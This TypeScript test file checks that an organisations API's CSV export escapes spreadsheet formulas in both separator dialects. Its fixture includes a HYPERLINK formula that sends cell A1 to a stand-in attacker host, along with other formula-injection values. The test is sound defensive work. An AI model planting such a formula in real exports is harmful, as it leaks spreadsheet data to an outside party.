/** A name written to be a spreadsheet formula comes out of every CSV export as text (OWASP « CSV injection »). */
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { sql } from 'drizzle-orm';
import { buildTestApp, type TestApp } from './support/app.ts';

const FORMULA = '=HYPERLINK("https://attaquant.example"&A1;"Voir")';
let t: TestApp;

before(async () => {
  t = await buildTestApp({ demo: false });
  await t.database.db.execute(sql`insert into organisation (name, commune_code, departement_code, region_code, source)
    select v.name, c.code, c.departement_code, c.region_code, 'test'
    from (values (${FORMULA}), ('@SOMME(A1)'), ('-Association du moins')) as v(name) join commune c on c.code = '26362'`);
});
after(() => t.close());

test('export CSV de l’Atlas : les formules sortent en texte, dans les deux dialectes', async () => {
  for (const dialect of ['', '&separateur=virgule']) {
    const response = await t.app.inject(`/api/v1/organisations.csv?commune=26362${dialect}`);
    assert.equal(response.statusCode, 200);
    const lines = response.body.split('\r\n');
    assert.ok(
      lines.some((line) => line.includes(`"'=HYPERLINK(""https://attaquant.example""&A1;""Voir"")"`)),
      response.body,
    );
    assert.ok(lines.some((line) => line.includes("'@SOMME(A1)")));
    assert.ok(lines.some((line) => line.includes("'-Association du moins")));
    for (const line of lines) for (const cell of line.split(dialect ? ',' : ';')) assert.doesNotMatch(cell, /^"?[=+@]/);
  }
});
